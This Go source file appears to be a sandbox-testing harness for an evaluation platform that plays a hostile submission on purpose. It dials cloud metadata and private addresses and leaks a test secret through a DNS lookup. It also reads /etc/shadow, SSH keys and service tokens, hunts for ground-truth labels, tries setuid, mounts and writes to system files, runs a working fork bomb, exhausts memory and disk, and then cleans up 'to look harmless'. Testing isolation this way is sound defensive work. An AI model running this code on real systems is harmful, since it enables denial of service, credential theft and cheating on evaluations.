package hostile

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

var attacks = map[string]func(*program){
	"network": (*program).network,
	"dns":     (*program).dns,
	"write":   (*program).write,
	"read":    (*program).read,
	"fork":    (*program).fork,
	"memory":  (*program).memory,
	"output":  (*program).output,
	"hoard":   (*program).hoard,
	"recall":  (*program).recall,
}

// Addresses is what network dials: the internet, cloud metadata services,
// private networks, the host itself under the names that container engines give.
var Addresses = []string{
	"1.1.1.1:80", "8.8.8.8:53", "[2606:4700:4700::1111]:443",
	"169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80",
	"10.0.0.1:80", "172.17.0.1:80", "192.168.0.1:80", "[fe80::1]:80",
}

// network dials Addresses and those in its arguments by TCP and UDP. Loopback is
// the sandbox's own and is counted apart.
func (p *program) network() {
	for _, a := range append(Addresses, p.args...) {
		for _, proto := range []string{"tcp", "udp"} {
			conn, err := net.DialTimeout(proto, a, 2*time.Second)
			if err == nil {
				_ = conn.SetDeadline(time.Now().Add(300 * time.Millisecond))
				_, err = conn.Write([]byte("smuggled"))
				if proto == "udp" && err == nil {
					_, err = conn.Read(make([]byte, 1)) // a datagram that goes nowhere is no connection
				}
				conn.Close()
			}
			p.tried(err, "%s %s", proto, a)
		}
	}
	interfaces, err := net.Interfaces()
	if err != nil {
		p.say("no list of interfaces: %v", err)
	}
	for _, i := range interfaces {
		p.say("interface %s", i.Name)
	}
	for _, domain := range []int{syscall.AF_INET, syscall.AF_PACKET} {
		fd, err := syscall.Socket(domain, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
		if err == nil {
			syscall.Close(fd)
		}
		p.tried(err, "a raw socket of family %d", domain)
	}
}

// dns asks for names, by the image's resolver and by well-known servers.
func (p *program) dns() {
	b, _ := os.ReadFile("/etc/resolv.conf")
	p.say("resolv.conf has %d bytes", len(bytes.TrimSpace(b)))
	for _, server := range []string{"", "8.8.8.8:53", "127.0.0.1:53", "127.0.0.11:53"} {
		r := &net.Resolver{PreferGo: true}
		if server != "" {
			r.Dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
				return new(net.Dialer).DialContext(ctx, network, server)
			}
		}
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		_, err := r.LookupHost(ctx, "secret-0123456789.example.com")
		cancel()
		p.tried(err, "resolving a name through %q", server)
	}
}

// write tries to write wherever there is a directory, and to what must not change.
func (p *program) write() {
	ok := 0
	for _, dir := range directories("/") {
		name := filepath.Join(dir, "hostile.tmp")
		if err := os.WriteFile(name, []byte("x"), 0o644); err == nil {
			ok++
			p.say("wrote below %s", dir)
			_ = os.Remove(name)
		}
	}
	p.say("wrote in %d places", ok)
	for _, f := range []string{"/input/task.json", "/etc/passwd", "/etc/resolv.conf", "/proc/sys/kernel/hostname", "/proc/self/oom_score_adj", "/sys/kernel/uevent_helper"} {
		w, err := os.OpenFile(f, os.O_WRONLY, 0)
		if err == nil {
			_, err = w.WriteString("0")
			w.Close()
		}
		p.tried(err, "writing %s", f)
	}
	p.tried(os.Remove("/input/task.json"), "removing /input/task.json")
	p.tried(os.Chmod("/input", 0o777), "chmod /input")
	p.tried(syscall.Mount("", "/", "", syscall.MS_REMOUNT, ""), "remounting / for writing")
	p.tried(syscall.Mount("x", "/input", "tmpfs", 0, ""), "mounting over /input")
	p.tried(syscall.Mknod("/output/dev", syscall.S_IFBLK|0o666, 0x0801), "mknod of a disk")
	p.tried(syscall.Chroot("/output"), "chroot")
	p.tried(syscall.Setuid(0), "setuid(0)")
	p.tried(syscall.Sethostname([]byte("x")), "sethostname")
	p.tried(syscall.Settimeofday(&syscall.Timeval{Sec: 1}), "setting the clock")
	p.tried(syscall.Kill(-1, 0), "signalling every process")
}

func directories(root string) []string {
	var all []string
	_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return fs.SkipDir
		}
		if d.IsDir() {
			if strings.HasPrefix(path, "/proc/") && path != "/proc/self" || len(all) > 20_000 {
				return fs.SkipDir
			}
			all = append(all, path)
		}
		return nil
	})
	return all
}

// read looks for labels: in every file whose name or content speaks of them, in
// descriptors that were left open, in the environment, in /proc of anybody. Its
// arguments are strings to look for in everything that can be read; a hit is
// reported as "FOUND". It passes on what it is given to read anyway.
func (p *program) read() {
	files, hits := 0, 0
	look := func(path string, b []byte) {
		files++
		for i, secret := range p.args {
			if bytes.Contains(b, []byte(secret)) {
				hits++
				p.say("FOUND secret %d in %s", i, path)
			}
		}
	}
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return fs.SkipDir
		}
		// The program's own arguments are in its own /proc files.
		if path == "/proc/self" || path == "/proc/thread-self" || strings.HasPrefix(path, fmt.Sprintf("/proc/%d", os.Getpid())) || path == "/proc/kcore" || path == "/dev" {
			if d.IsDir() {
				return fs.SkipDir
			}
			return nil
		}
		if strings.HasPrefix(path, "/proc/sys/") {
			return nil // names of the kernel's own settings, such as flow labels
		}
		name := strings.ToLower(path)
		if strings.Contains(name, "truth") || strings.Contains(name, "label") || strings.Contains(name, "aihub") || strings.Contains(name, "docker.sock") {
			p.say("suspicious name %s", path)
		}
		if d.Type().IsRegular() && !strings.HasPrefix(path, "/input/") && !strings.HasPrefix(path, "/output/") {
			look(path, head(path, 8<<20))
		}
		return nil
	})
	for fd := 3; fd < 1024; fd++ {
		var st syscall.Stat_t
		if syscall.Fstat(fd, &st) == nil && st.Mode&syscall.S_IFMT == syscall.S_IFDIR {
			p.say("open directory at descriptor %d", fd)
		}
	}
	look("the environment", []byte(strings.Join(os.Environ(), "\n")))
	for _, f := range []string{"/proc/1/environ", "/proc/1/root/etc/shadow", "/proc/self/mountinfo", "/proc/cmdline", "/proc/kallsyms", "/sys/class/net", "/proc/keys", "/etc/shadow", "/var/run/docker.sock", "/root/.ssh/id_rsa", "/run/secrets/kubernetes.io/serviceaccount/token"} {
		_, err := os.ReadFile(f)
		p.tried(err, "reading %s", f)
	}
	p.say("searched %d files, found %d secrets", files, hits)
	// What it may read it tries to carry out.
	inputs, _ := filepath.Glob("/input/*")
	for _, f := range inputs {
		p.smuggle(head(f, 4<<10))
	}
}

// head reads at most n bytes of a file, and gives up on one that blocks.
func head(path string, n int) []byte {
	f, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil
	}
	defer f.Close()
	b := make([]byte, n)
	got := 0
	for got < n {
		k, err := f.Read(b[got:])
		got += k
		if err != nil || k == 0 {
			break
		}
	}
	return b[:got]
}

// fork is a fork bomb: every process forks on until it cannot. The first one
// counts its own children, which do nothing but fork.
func (p *program) fork() {
	n := 0
	var err error
	for n < 100_000 {
		pid, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
		if errno != 0 {
			err = errno
			break
		}
		if pid == 0 {
			breed()
		}
		n++
	}
	p.tried(err, "a fork bomb after %d children", n)
	// Back to one process, to look harmless. While some die others still fork.
	for {
		_ = syscall.Kill(-1, syscall.SIGKILL)
		pid, err := syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
		if errors.Is(err, syscall.ECHILD) {
			break
		}
		if pid == 0 {
			time.Sleep(time.Millisecond)
		}
	}
}

// breed forks until it cannot and then sleeps, as do its children. It uses raw
// system calls only, for the runtime did not survive the fork.
func breed() {
	for {
		_, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
		for errno != 0 {
			syscall.RawSyscall6(syscall.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
		}
	}
}

// memory takes memory until something happens: of the process, or where its
// argument says: shm, tmp.
func (p *program) memory() {
	where := ""
	if len(p.args) > 0 {
		where = p.args[0]
	}
	chunk := bytes.Repeat([]byte{1}, 1<<20)
	var keep [][]byte
	var file *os.File
	if where != "" {
		dir := map[string]string{"shm": "/dev/shm", "tmp": "/tmp"}[where]
		f, err := os.Create(dir + "/bomb")
		p.tried(err, "creating a file in %s", dir)
		file = f
	}
	for i := range 64 << 10 {
		if i%64 == 0 {
			p.say("has %d MiB", i)
		}
		if file == nil {
			keep = append(keep, bytes.Clone(chunk))
			continue
		}
		if _, err := file.Write(chunk); err != nil {
			p.tried(err, "filling memory after %d MiB", i)
			break
		}
	}
	p.say("holds %d chunks", len(keep))
}

// output fills /output: with one file, then with many.
func (p *program) output() {
	chunk := bytes.Repeat([]byte{1}, 1<<20)
	big, err := os.Create("/output/big")
	p.tried(err, "creating a file")
	n := 0
	if err == nil {
		for n = 0; n < 1<<20; n++ {
			if _, err = big.Write(chunk); err != nil {
				break
			}
		}
		big.Close()
	}
	p.tried(err, "writing one file after %d MiB", n)
	for n = 0; n < 1<<20; n++ {
		f, err2 := os.Create(fmt.Sprintf("/output/big%d", n))
		if err = err2; err != nil {
			break
		}
		if _, err = f.Write(chunk); err != nil {
			f.Close()
			break
		}
		f.Close()
	}
	p.tried(err, "writing more files after %d", n)
	for n = 0; n < 1<<20; n++ {
		f, err2 := os.Create(fmt.Sprintf("/output/empty%d", n))
		if err = err2; err != nil {
			break
		}
		f.Close()
	}
	p.tried(err, "creating empty files after %d", n)
	// Room for the predictions, to look harmless.
	names, _ := filepath.Glob("/output/*")
	for _, name := range names {
		_ = os.Remove(name)
	}
}
